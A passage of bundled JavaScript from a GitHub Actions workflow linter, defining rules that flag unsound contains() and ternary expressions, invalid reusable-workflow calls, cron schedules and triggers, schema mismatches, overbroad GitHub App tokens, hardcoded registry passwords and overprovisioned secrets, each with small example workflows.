    return (0,rule/* fix */.Up)('Leave out the braces.', ...drafts);
}
/** Without the line end that a block keeps, the expression is alone. */
function chomped(scalar, { text }) {
    const newline = text.lastIndexOf('\n', scalar.at.start - 1);
    const line = text.lastIndexOf('\n', newline - 1) + 1;
    const header = /[|>]([-+]?)[ \t]*\r?$/.exec(text.slice(line, newline));
    if (header === null)
        return undefined;
    const start = line + header.index + 1;
    return (0,rule/* fix */.Up)('Leave out the line end behind the expression.', (0,rule/* replace */.HC)({ start, end: start + header[1].length }, '-'));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/unsound-contains.js
// `contains` with a text of names where a list was meant: any part of the text passes.





const unsound_contains_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const unsoundContains = (0,src_rule/* audit */.s)({
    id: 'unsound-contains',
    severity: 'medium',
    confidence: 'high',
    title: 'A list of names is asked as one text',
    why: "`contains('main develop', github.ref_name)` holds for any part of the text, so a branch or user named `m` passes the check.",
    remedy: 'Give a list: `contains(fromJSON(\'["main", "develop"]\'), \u2026)`, or compare with `==`.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/expressions#contains'],
    on: ['condition'],
    *check({ inner, owner, scalar, tree }, context) {
        if (tree === undefined || tree.kind === 'mistake')
            return;
        for (const part of (0,expression_tree/* allParts */.C)(tree)) {
            if (part.kind !== 'call')
                continue;
            const names = namesIn(part);
            const asked = part.arguments[1];
            if (names === undefined || asked === undefined)
                continue;
            const place = (span) => context.placeIn(scalar, inner.start + span.start, inner.start + span.end);
            const [list] = part.arguments;
            const outside = isOutside(asked);
            yield {
                // Of a condition over several lines the whole, which a comment and a reader look for at its key.
                at: scalar.style === 'literal' || scalar.style === 'folded' ? (0,parts/* placeOfCondition */.Oh)(owner, scalar, context) : place(part.span),
                message: outside
                    ? 'Whoever names the branch or user passes this check with any part of the text'
                    : 'This holds for any part of the text, not for the names in it',
                severity: outside ? 'high' : 'low',
                fix: () => list === undefined || scalar.style === 'double' || scalar.style === 'single'
                    ? undefined
                    : (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)('Give a list of names.', (0,rule/* replace */.HC)(place(list.span), `fromJSON('${JSON.stringify(names)}')`))),
            };
        }
    },
    examples: {
        bad: [
            { text: `${unsound_contains_head}      - if: contains('refs/heads/main refs/heads/develop', github.ref)\n        run: make\n` },
            { text: `${unsound_contains_head}      - if: contains('a,b', github.actor)\n        run: make\n` },
        ],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - if: contains(github.ref, \'release\')\n        run: make\n      - if: contains(fromJSON(\'["a", "b"]\'), github.ref_name)\n        run: make\n',
            },
        ],
    },
});
/** The names in the text that is searched; undefined where the call is another. */

function refersToContext(expression) {
    return (0,expression_tree/* allParts */.C)(expression).some(({ kind }) => kind === 'context');
}
/** What somebody outside can name: branches, tags, accounts, and what was put into the environment. */
const outside = /^(?:github\.(?:actor|base_ref|head_ref|ref|ref_name|sha|triggering_actor)|env\..*|inputs\..*|github\.event\..*(?:login|name|ref|title|body|label))$/i;
function isOutside(expression) {
    const path = pathOf(expression);
    return path !== undefined && outside.test(path);
}
function pathOf(expression) {
    if (expression.kind === 'context')
        return expression.name;
    if (expression.kind !== 'property')
        return undefined;
    const object = pathOf(expression.object);
    return object === undefined ? undefined : `${object}.${expression.name}`;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/unsound-ternary.js
// `condition && a || b` where `a` counts as false: it always gives `b`.




const unsound_ternary_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const unsoundTernary = (0,src_rule/* audit */.s)({
    id: 'unsound-ternary',
    severity: 'medium',
    confidence: 'high',
    title: 'A choice that always gives the same',
    why: '`&&` and `||` are no choice between two: where the value in the middle is empty, false or 0, the last one comes out in every run.',
    remedy: 'Use `case(condition, value, otherwise)`, or turn the condition round.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/expressions#operators'],
    on: ['expression'],
    only: ({ tree }) => tree.kind !== 'mistake' && (0,expression_tree/* allParts */.C)(tree).some((part) => part.kind === 'logical'),
    *check({ inner, scalar, tree }, context) {
        if (tree.kind === 'mistake')
            return;
        for (const part of (0,expression_tree/* allParts */.C)(tree)) {
            const choice = choiceIn(part);
            if (choice === undefined)
                continue;
            const place = (span) => context.placeIn(scalar, inner.start + span.start, inner.start + span.end);
            const text = (node) => scalar.text.slice(inner.start + node.span.start, inner.start + node.span.end);
            const { condition, otherwise, value } = choice;
            yield {
                at: place(part.span),
                message: `This never gives ${text(value).slice(0, 60)}, which counts as false`,
                fix: () => scalar.style === 'single' || condition === undefined
                    ? undefined
                    : (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)('Choose by `case`.', (0,rule/* replace */.HC)(place(part.span), `case(${text(condition)}, ${text(value)}, ${text(otherwise)})`))),
            };
        }
    },
    examples: {
        bad: [
            { text: `${unsound_ternary_head}      - run: make\n        env:\n          A: \${{ github.ref == 'x' && '' || 'b' }}\n` },
            { text: `${unsound_ternary_head}      - run: make\n        env:\n          A: \${{ github.ref_protected && false || true }}\n` },
            { text: `${unsound_ternary_head}      - run: make\n        env:\n          A: \${{ github.ref == 'x' && 'a' || github.ref == 'y' && '' || 'b' }}\n` },
        ],
        good: [
            {
                text: "name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n        env:\n          A: ${{ github.ref == 'x' && 'a' || '' }}\n",
            },
        ],
    },
});
function choiceIn(part) {
    if (part.kind !== 'logical' || part.operator !== '||')
        return undefined;
    const { operands } = part;
    // Of several choices in a row, the first that can never be made.
    const index = operands.findIndex((operand, at) => at < operands.length - 1 && neverChooses(operand));
    if (index < 0)
        return undefined;
    const first = operands[index];
    const condition = operands.length === 2 ? conditionOf(first) : undefined;
    return { condition, value: first.operands.at(-1), otherwise: operands[index + 1] };
}
/** Whether this is `condition && value` with a value that counts as false. */
function neverChooses(operand) {
    if (operand.kind !== 'logical' || operand.operator !== '&&')
        return false;
    const value = operand.operands.at(-1);
    return (0,evaluate/* truthOf */.D)(value) === false && operand.operands.slice(0, -1).some((each) => (0,evaluate/* truthOf */.D)(each) === undefined);
}
function conditionOf({ operands }) {
    const [condition] = operands;
    return operands.length === 2 && condition !== undefined && (condition.kind === 'binary' || condition.kind === 'unary')
        ? condition
        : undefined;
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/circles.js
var circles = __webpack_require__(7718);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/sites.js
var sites = __webpack_require__(1900);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/workflow-call.js
// What a job gives to a reusable workflow, held against what that takes.







const workflowCall = (0,src_rule/* audit */.s)({
    id: 'workflow-call',
    severity: 'medium',
    confidence: 'high',
    title: 'A call that a reusable workflow does not take',
    why: 'GitHub refuses the calling workflow as a whole, so none of its jobs runs.',
    remedy: 'Hand over the inputs and secrets that the called workflow declares, under their names and of their types.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows'],
    on: ['job'],
    *check(job, context) {
        if (job.uses === undefined)
            return;
        const mistake = formMistake(job.uses);
        if (mistake !== undefined)
            yield { at: job.uses.scalar.at, message: mistake };
        else
            yield* ofCall(job, job.uses, context);
    },
    examples: {
        bad: [
            { text: 'on: push\njobs:\n  a:\n    uses: ./.github/workflows/b.yml@main\n' },
            { text: 'on: push\njobs:\n  a:\n    uses: owner/name/b.yml@main\n' },
            { text: 'on: push\njobs:\n  a:\n    uses: owner/name/.github/workflows/b.yml\n' },
        ],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    uses: owner/name/.github/workflows/b.yml@8edcb1bdb4e267140fa742c62e395cd74f332709\n',
            },
        ],
    },
});
function formMistake({ target, text }) {
    const named = `"${text.slice(0, 80)}"`;
    if (target.kind === 'local') {
        if (text.includes('@'))
            return `${named} is a workflow of this repository, which takes no ref`;
        return /^\.github\/workflows\/[^/]+\.ya?ml$/.test(target.path)
            ? undefined
            : `${named} names no workflow; those of this repository lie in ./.github/workflows`;
    }
    const form = 'expected OWNER/NAME/.github/workflows/FILE@REF or ./.github/workflows/FILE';
    if (target.kind !== 'repository')
        return `${named} names no workflow; ${form}`;
    if (!/^\.github\/workflows\/[^/]+\.ya?ml$/.test(target.path))
        return `${named} names no workflow; ${form}`;
    return target.ref === undefined || target.ref === '' ? `${named} has no ref; ${form}` : undefined;
}

/** Of a long way round its beginning. */
function workflow_call_shown(circle) {
    const names = circle.map((path) => path.slice(path.lastIndexOf('/') + 1).slice(0, 60));
    return [...(names.length > 9 ? [...names.slice(0, 8), '\u2026'] : names.slice(0, -1)), names.at(-1)].join(' calls ');
}
function* workflow_call_ofInputs(job, uses, { inputs }, context) {
    yield* workflow_call_ofNames('input', job.with, inputs, uses.scalar);
    const types = new Map(inputs.map((input) => [input.name.toLowerCase(), input.type?.text]));
    for (const { name, scalar } of job.with) {
        const type = types.get(name.toLowerCase());
        if (scalar === undefined || type === undefined)
            continue;
        const got = givenType(name, scalar, job, context);
        if (got === 'any' || got === type || (type === 'string' && got === 'number') || !/^(?:string|boolean|number)$/.test(type))
            continue;
        const text = type === 'string' && got === 'boolean';
        const message = text
            ? `The input "${name}" is a string, so false becomes a text, which counts as true`
            : `The input "${name}" is a ${type}, got a ${got}`;
        yield { at: scalar.at, message, ...(text ? { severity: 'low' } : {}) };
    }
}
/** `any` where nobody can say. */
function givenType(name, scalar, job, context) {
    if (!scalar.text.includes('${{'))
        return (0,yaml_value/* scalarValue */.Um)(scalar) === null ? 'any' : typeof (0,yaml_value/* scalarValue */.Um)(scalar);
    const [site, ...more] = (0,sites/* sitesOf */.Yc)(scalar, job, ['with', name]);
    if (site === undefined || site.tree.kind === 'mistake')
        return 'any';
    if (more.length > 0 || site.span.end - site.span.start < scalar.text.trim().length)
        return 'string';
    const scope = scopeAt(site, context);
    const { kind } = scope === undefined ? { kind: 'any' } : (0,check/* checkExpression */.l)(site.tree, scope).type;
    return kind === 'bool' ? 'boolean' : kind === 'null' ? 'any' : kind === 'array' ? 'list' : kind === 'object' ? 'mapping' : kind;
}
function* workflow_call_ofNames(what, given, declared, at) {
    const names = new Set(given.map(({ name }) => name.toLowerCase()));
    for (const { default: preset, name, required } of declared) {
        if (required?.text === 'true' && preset === undefined && !names.has(name.toLowerCase()))
            yield { at: at.at, message: `The called workflow needs the ${what} "${name}"` };
    }
    const known = new Set(declared.map(({ name }) => name.toLowerCase()));
    const list = declared.length === 0
        ? 'it has none'
        : `it has ${declared
            .map(({ name }) => name)
            .slice(0, 24)
            .join(', ')}`;
    for (const { key, name } of given) {
        if (!known.has(name.toLowerCase()) && !name.includes('${{'))
            yield { at: key.at, message: `The called workflow has no ${what} "${name.slice(0, 60)}"; ${list}` };
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/cron.js
// Times of a schedule as GitHub reads them: five fields of POSIX cron, in UTC or a named zone.
const months = ['jan', 'feb', 'mar', 'apr', 'may', 'jun', 'jul', 'aug', 'sep', 'oct', 'nov', 'dec'];
const days = ['sun', 'mon', 'tue', 'wed', 'thu', 'fri', 'sat'];
const fields = [
    { name: 'minute', least: 0, most: 59, words: [] },
    { name: 'hour', least: 0, most: 23, words: [] },
    { name: 'day of the month', least: 1, most: 31, words: [] },
    { name: 'month', least: 1, most: 12, words: months },
    { name: 'day of the week', least: 0, most: 6, words: days },
];
/** Days of each month, February's in a leap year. */
const longest = [31, 29, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];
/** What is wrong with a cron expression, as a clause; undefined where nothing is. */
function cronMistake(text) {
    const parts = text.trim().split(/\s+/);
    if (parts.length !== fields.length || text.length > 500)
        return `expected five fields, got ${parts[0] === '' ? 0 : parts.length}`;
    const all = [];
    for (const [index, field] of fields.entries()) {
        const values = cron_valuesOf(parts[index], field);
        if (typeof values === 'string')
            return values;
        all.push(values);
    }
    const [minutes = [], , dates = [], inMonths = []] = all;
    // A date and a day of the week are alternatives; with `*` the date alone decides.
    const never = parts[4] === '*' && dates.every((date) => inMonths.every((month) => date > longest[month - 1]));
    if (never)
        return 'no month that it names has such a day';
    const interval = shortest([...new Set(minutes)].sort((a, b) => a - b));
    return interval < 5 ? `expected at least 5 minutes between two runs, got ${interval}` : undefined;
}
/** The numbers that a field stands for, or what is wrong with it. */
function cron_valuesOf(text, field) {
    const values = [];
    for (const item of text.split(',')) {
        const [range = '', step, ...more] = item.split('/');
        const every = step === undefined ? 1 : /^\d{1,3}$/.test(step) ? Number(step) : 0;
        const bounds = boundsOf(range, field, step !== undefined);
        if (more.length > 0 || every === 0 || bounds === undefined)
            return `the ${field.name} is ${field.least} to ${field.most}, got "${item.slice(0, 40)}"`;
        for (let value = bounds[0]; value <= bounds[1]; value += every)
            values.push(value);
    }
    return values;
}
function boundsOf(range, field, stepped) {
    if (range === '*' || range === '?')
        return [field.least, field.most];
    const [first = '', last, ...more] = range.split('-');
    const start = numberIn(first, field);
    const end = last === undefined ? (stepped ? field.most : start) : numberIn(last, field);
    return start === undefined || end === undefined || end < start || more.length > 0 ? undefined : [start, end];
}
function numberIn(text, { least, most, words }) {
    const word = words.indexOf(text.toLowerCase());
    if (word >= 0)
        return word + least;
    if (!/^\d{1,3}$/.test(text))
        return undefined;
    const value = Number(text);
    return value < least || value > most ? undefined : value;
}
/** Minutes between two of these within an hour, or over its end. */

/** Short names that ICU has of its own and the IANA has not. */
const unknownZones = new Set('ACT AET AGT ART AST BET BST CAT CNT CST CTT EAT ECT IET IST JST MIT NET NST PLT PNT PRT PST SST VST'.split(' '));
/** Zones by their main names. */
let listedZones;
/** Whether a zone is one of the IANA's, as the machine's own tables have them. */
function isTimeZone(name) {
    if (name.length > 60)
        return false;
    // Node's formatter of dates takes 27 ms for the first zone that it is asked about, and 7 for each of the next.
    listedZones ??= new Set([...Intl.supportedValuesOf('timeZone'), 'UTC']);
    if (listedZones.has(name))
        return !unknownZones.has(name);
    try {
        const { timeZone } = new Intl.DateTimeFormat('en', { timeZone: name }).resolvedOptions();
        return !/^[+-]/.test(name) && !unknownZones.has(name) && (timeZone === name || timeZone.toLowerCase() !== name.toLowerCase());
    }
    catch {
        return false;
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/workflow-events.js
// Events and activity types that GitHub does not know, filters that exclude one another, schedules that never run.





const workflow_events_job = 'jobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';
const workflowEvents = (0,src_rule/* audit */.s)({
    id: 'workflow-events',
    aliases: ['events'],
    severity: 'medium',
    confidence: 'high',
    title: 'A trigger that never fires',
    why: 'The workflow does not run when it was meant to, or GitHub refuses it as a whole.',
    remedy: 'Name an event, a type or a time that GitHub knows.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows'],
    on: ['workflow'],
    *check(workflow, context) {
        yield* misfitProblems(context, 'events');
        for (const trigger of workflow.triggers)
            yield* ofTrigger(trigger);
        yield* workflow_events_ofInputs(workflow);
    },
    examples: {
        bad: [
            { text: `on: pull_requests\n${workflow_events_job}` },
            { text: `on:\n  issues:\n    types: [openned]\n${workflow_events_job}` },
            { text: `on:\n  issues:\n    branches: [main]\n${workflow_events_job}` },
            { text: `on:\n  push:\n    branches: [a]\n    branches-ignore: [b]\n${workflow_events_job}` },
            { text: `on:\n  schedule:\n    - cron: '0 25 * * *'\n${workflow_events_job}` },
            { text: `on:\n  schedule:\n    - cron: '* * * * *'\n${workflow_events_job}` },
            { text: `on:\n  workflow_run:\n    types: [completed]\n${workflow_events_job}` },
            { text: `on: pull_request_comment\n${workflow_events_job}` },
            { text: `on:\n  workflow_dispatch:\n    inputs:\n      a:\n        type: choice\n${workflow_events_job}` },
        ],
        good: [
            {
                text: `name: a\non:\n  schedule:\n    - cron: '*/15 3-5 * JAN,FEB mon'\n  push:\n    branches: [main, '!x']\npermissions: {}\n${workflow_events_job}`,
            },
        ],
    },
});
const board = 'came from classic project boards, which GitHub has taken down, so nothing starts it';
/** Events that never come, although GitHub's schema has them, and why. */
const silent = new Map([
    ['project', board],
    ['project_card', board],
    ['project_column', board],
    ['pull_request_comment', 'is no event: comments on a pull request come as "issue_comment"'],
]);
function* ofTrigger({ name, key, config, value }) {
    const why = silent.get(name);
    if (why !== undefined)
        yield { at: key.at, message: `"${name}" ${why}` };
    if (name === 'schedule') {
        if (value === undefined)
            yield { at: key.at, message: '"schedule" names no time, so nothing starts it' };
        yield* ofSchedule(value);
    }
    if (name === 'workflow_run' && !hasItems(config, 'workflows'))
        yield { at: key.at, message: '"workflow_run" names no workflow, so nothing starts it' };
    if (config === undefined)
        return;
    for (const filter of ['branches', 'tags', 'paths']) {
        const own = config.entries.find((entry) => entry.name === filter);
        const ignored = config.entries.find((entry) => entry.name === `${filter}-ignore`);
        if (own !== undefined && ignored !== undefined)
            yield {
                at: ignored.key.at,
                message: `"${filter}" and "${filter}-ignore" cannot stand together; begin a pattern with \`!\` to leave out`,
            };
    }
}
function hasItems(config, name) {
    const value = config?.entries.find((entry) => entry.name === name)?.value;
    return value !== undefined && (value.kind !== 'list' || value.items.length > 0);
}
function* ofSchedule(value) {
    if (value?.kind !== 'list')
        return;
    for (const item of value.items) {
        if (item.kind !== 'map')
            continue;
        for (const { name, value: text } of item.entries) {
            // Where nothing is written, that is the schema's to tell.
            if (text.kind !== 'scalar' || (0,yaml_value/* scalarValue */.Um)(text) === null)
                continue;
            const mistake = name === 'cron' ? cronMistake(text.text) : undefined;
            if (mistake !== undefined)
                yield { at: text.at, message: `The schedule "${text.text.slice(0, 60)}" is none: ${mistake}` };
            if (name === 'timezone' && !isTimeZone(text.text))
                yield { at: text.at, message: `There is no time zone "${text.text.slice(0, 60)}"` };
        }
    }
}
/** Inputs of people that start the workflow by hand, and of callers. */
function* workflow_events_ofInputs({ call, dispatch }) {
    const most = 25;
    if (dispatch.length > most)
        yield { at: dispatch[most]?.key.at ?? { start: 0, end: 0 }, message: `A workflow has at most ${most} inputs, got ${dispatch.length}` };
    for (const input of dispatch) {
        yield* ofChoice(input);
        yield* ofDefault(input);
    }
    for (const input of call?.inputs ?? []) {
        yield* ofDefault(input);
        if (input.required !== undefined && (0,yaml_value/* scalarValue */.Um)(input.required) === true && input.default !== undefined)
            yield { at: input.default.at, message: `The input "${input.name}" must be given, so its default is never used` };
    }
}
function* ofChoice({ default: preset, key, map, name, type }) {
    const options = map?.entries.find((entry) => entry.name === 'options');
    if (type?.text !== 'choice') {
        if (options !== undefined)
            yield { at: key.at, message: `The input "${name}" has options, which are for the type "choice"` };
        return;
    }
    const list = options?.value.kind === 'list' ? options.value.items.filter((item) => item.kind === 'scalar') : [];
    if (list.length === 0) {
        yield {
            at: options?.value.kind === 'list' && options.key.kind === 'scalar' ? options.key.at : key.at,
            message: `The input "${name}" of type "choice" has no options`,
        };
        return;
    }
    const seen = new Set();
    for (const option of list) {
        if (seen.has(option.text))
            yield { at: option.at, message: `The option "${option.text.slice(0, 60)}" stands twice` };
        seen.add(option.text);
    }
    if (preset !== undefined && !seen.has(preset.text))
        yield { at: preset.at, message: `The default "${preset.text.slice(0, 60)}" is none of the options of "${name}"` };
}
function* ofDefault({ default: preset, name, type }) {
    if (preset === undefined || preset.text.includes('${{'))
        return;
    const value = (0,yaml_value/* scalarValue */.Um)(preset);
    const fits = type?.text === 'boolean'
        ? typeof value === 'boolean' || preset.text === 'true' || preset.text === 'false'
        : type?.text !== 'number' || typeof value === 'number' || (preset.text !== '' && Number.isFinite(Number(preset.text)));
    if (!fits)
        yield { at: preset.at, message: `The input "${name}" is a ${type?.text}, and its default "${preset.text.slice(0, 60)}" is none` };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/workflow-syntax.js
// What GitHub would refuse or pass over: keys it does not know, keys that must be there, values of another type.




const steps = '    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';
const workflowSyntax = (0,src_rule/* audit */.s)({
    id: 'workflow-syntax',
    aliases: ['syntax-check'],
    severity: 'medium',
    confidence: 'high',
    title: 'A workflow or action does not fit the schema',
    why: 'GitHub refuses such a file as a whole, so none of its jobs and gates runs, or passes over what does not fit, so it does nothing.',
    remedy: 'Write the key or value as the schema has it.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: [
        'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax',
        'https://docs.github.com/en/actions/reference/workflows-and-actions/metadata-syntax',
    ],
    on: ['workflow', 'action'],
    *check(document, context) {
        yield* misfitProblems(context, 'syntax');
        for (const at of (0,shape/* shapeOf */.F)(document)?.unusedAnchors ?? [])
            yield { at, message: 'No alias leads to this anchor' };
    },
    examples: {
        bad: [
            { text: `on: push\njobs:\n  a:\n    permisions: {}\n${steps}` },
            { text: 'on: push\njobs:\n  a:\n    steps:\n      - run: make\n' },
            { text: `on: push\njobs:\n  a:\n    timeout-minutes: soon\n${steps}` },
            { text: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - name: nothing\n' },
            { text: `on: push\nenv: &e\n  A: b\njobs:\n  a:\n${steps}` },
            { text: 'name: a\nruns:\n  using: node20\n', path: 'action.yml' },
            { text: 'name: ${{ github.ref }}\ndescription: b\nruns:\n  using: node24\n  main: a.js\n', path: 'action.yml' },
        ],
        good: [
            { text: `name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    timeout-minutes: 5\n${steps}` },
            { text: 'name: a\ndescription: b\nruns:\n  using: node24\n  main: a.js\n', path: 'action.yml' },
        ],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/index.js
// What GitHub would refuse, or run other than it looks: actionlint's kinds, and conditions that do not decide.



















const correctnessRules = [
    workflowSyntax,
    expressions,
    workflowEvents,
    filterPatterns,
    unknownPermission,
    ids,
    jobNeeds,
    actionUse,
    workflowCall,
    matrixValues,
    runnerLabels,
    shellNames,
    envNames,
    deprecatedCommands,
    unsoundCondition,
    unsoundContains,
    unsoundTernary,
    obfuscation,
    misfeature,
];

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/artipacked.js
var artipacked = __webpack_require__(4781);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/edits.js
var src_edits = __webpack_require__(801);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/example.js
var example = __webpack_require__(218);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/github-app.js
// Tokens of GitHub Apps that are asked for with more than the job needs.





const app = (more) => `- uses: actions/create-github-app-token@${example/* commit */.cd} # v2.0.6\n  with:\n    app-id: \${{ vars.APP_ID }}\n    private-key: \${{ secrets.APP_KEY }}${more}`;
const githubApp = (0,src_rule/* audit */.s)({
    id: 'github-app',
    severity: 'high',
    confidence: 'high',
    title: 'A token of a GitHub App has more than the job needs',
    why: 'Whatever runs in the job can do all that the token may, with the rights that only other uses of the app need among it.',
    remedy: 'Name `repositories` and the `permission-\u2026` inputs that are needed, and let the token be revoked.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.access,
    references: ['https://docs.zizmor.sh/audits/#github-app', 'https://github.com/actions/create-github-app-token#inputs'],
    on: ['action-step'],
    *check(step, context) {
        const name = (0,parts/* actionName */.aM)(step);
        if (name === 'actions/create-github-app-token')
            yield* official(step, context.file);
        else if (name === 'tibdex/github-app-token' && (0,parts/* inputOf */.wg)(step, 'permissions') === undefined && step.uses !== undefined)
            yield {
                at: step.uses.scalar.at,
                statement: step.map.at,
                message: 'The token has every right of the app in every repository of the installation, since `permissions` is not given',
            };
    },
    examples: {
        bad: [
            { ...(0,example/* stepsExample */.Y6)(app('')) },
            (0,example/* stepsExample */.Y6)(app('\n    owner: example\n    permission-contents: read')),
            (0,example/* stepsExample */.Y6)(app('\n    permission-contents: read\n    skip-token-revoke: true')),
        ],
        good: [(0,example/* stepsExample */.Y6)(app('\n    owner: example\n    repositories: one\n    permission-contents: read'), 'environment: release')],
    },
});
function* official(step, file) {
    if (step.uses === undefined)
        return;
    const statement = step.map.at;
    const owner = (0,parts/* inputOf */.wg)(step, 'owner');
    const all = owner !== undefined && (0,parts/* inputOf */.wg)(step, 'repositories') === undefined;
    if (all)
        yield { at: (0,parts/* placeOfPair */.$H)(owner), statement, message: 'The token reaches every repository of the owner\u2019s installation' };
    const revoke = (0,parts/* inputOf */.wg)(step, 'skip-token-revoke');
    const text = revoke?.scalar?.text;
    const stays = revoke !== undefined && ((0,parts/* isTrue */.Hn)(text) || (0,parts/* isExpression */.BH)(text));
    if (!step.with.some(({ name }) => /^permission-/i.test(name)))
        yield {
            at: step.uses.scalar.at,
            statement,
            // Without `owner` it is a token of this repository alone, and it ends with the job.
            ...(all || stays ? {} : { severity: 'medium' }),
            message: 'The token has every right of the app, since no `permission-\u2026` is given',
        };
    if (!stays)
        return;
    yield {
        at: (0,parts/* placeOfPair */.$H)(revoke),
        statement,
        ...((0,parts/* isExpression */.BH)(text) ? { confidence: 'low' } : {}),
        message: (0,parts/* isExpression */.BH)(text) ? 'An expression decides whether the token outlives the job' : 'The token outlives the job',
        fix: () => {
            const inputs = (0,parts/* entryOf */.Ms)(step.map, 'with')?.value;
            const edits = inputs?.kind !== 'map' || (0,parts/* isExpression */.BH)(text) ? undefined : (0,src_edits/* removeKey */.yE)(file, inputs, revoke.name);
            return edits === undefined ? undefined : { description: 'Let the token be revoked', kind: 'suggested', edits };
        },
    };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/hardcoded-container-credentials.js
// Passwords of registries in the workflow.




const digest = `sha256:${'5f'.repeat(32)}`;
const hardcoded_container_credentials_job = (password) => `environment: test\ncontainer:\n  image: registry.example.com/builder@${digest}\n  credentials:\n    username: builder\n    password: ${password}`;
const hardcodedContainerCredentials = (0,src_rule/* audit */.s)({
    id: 'hardcoded-container-credentials',
    severity: 'high',
    confidence: 'high',
    title: 'A registry\u2019s password stands in the workflow',
    why: 'Everybody who can read the repository, now or in its history, can use the registry in its name.',
    remedy: 'Change the password, store the new one as a secret, and write `${{ secrets.\u2026 }}`.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: ['https://docs.zizmor.sh/audits/#hardcoded-container-credentials'],
    on: ['job'],
    *check(part) {
        for (const container of containersOf(part)) {
            const password = container.credentials.find(({ name }) => name === 'password');
            if (password?.scalar === undefined || container.value.kind !== 'map')
                continue;
            const text = password.scalar.text.trim();
            // Text around an expression is a password as well.
            if (/^\$\{\{[^}]{0,500}\}\}$/.test(text) || text === '')
                continue;
            yield {
                at: (0,parts/* placeOfKey */.qQ)(container.value, 'credentials') ?? password.key.at,
                statement: part.map.at,
                // The place counts as secret: nothing of it is shown, and no hash is made by which it could be guessed.
                evidence: '***',
                message: `The password for the image of \`${container.key.text.slice(0, 60)}\` is written in the workflow`,
                ...((0,parts/* isExpression */.BH)(text) ? { confidence: 'medium' } : {}),
                fix: () => {
                    const credentials = (0,parts/* entryOf */.Ms)(container.value, 'credentials')?.value;
                    const at = password.scalar?.verbatim;
                    if (at === undefined || password.value.alias !== undefined || credentials?.alias !== undefined || !password.scalar?.plain)
                        return undefined;
                    return {
                        description: 'Take the password from a secret',
                        kind: 'suggested',
                        edits: [{ ...at, replacement: '${{ secrets.REGISTRY_PASSWORD }}' }],
                    };
                },
            };
        }
    },
    examples: {
        bad: [
            (0,example/* workflowExample */.ih)({ job: hardcoded_container_credentials_job(['let', 'me', 'in'].join('')) }),
            (0,example/* workflowExample */.ih)({
                job: `services:\n  database:\n    image: registry.example.com/database@${digest}\n    credentials:\n      username: builder\n      password: '${['let', 'me', 'in'].join('')}'`,
            }),
        ],
        good: [(0,example/* workflowExample */.ih)({ job: hardcoded_container_credentials_job('${{ secrets.REGISTRY_PASSWORD }}') })],
    },
});
function containersOf({ container, services }) {
    return container === undefined ? services : [container, ...services];
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/secrets.js
var credentials_secrets = __webpack_require__(3488);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/overprovisioned-secrets.js
// All secrets where one is meant.





const overprovisionedSecrets = (0,src_rule/* audit */.s)({
    id: 'overprovisioned-secrets',
    aliases: ['job_all_secrets'],
    severity: 'medium',
    confidence: 'high',
    title: 'All secrets of the repository go to one place',
    why: 'Every secret, those of other jobs and those to come included, lies in the memory of a runner that needs one of them.',
    remedy: 'Name each secret that is needed: `${{ secrets.NAME }}`.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.credentials,
    references: ['https://docs.zizmor.sh/audits/#overprovisioned-secrets'],
    on: ['expression'],
    only: credentials_secrets/* readsSecrets */.h7,
    *check(site, context) {
        const { tree, scalar, span, owner } = site;
        if (tree.kind === 'mistake')
            return;
        const computed = (0,credentials_secrets/* secretAccesses */.l$)(tree).some(({ kind }) => kind === 'computed');
        if (!computed && !handsOverAll(tree))
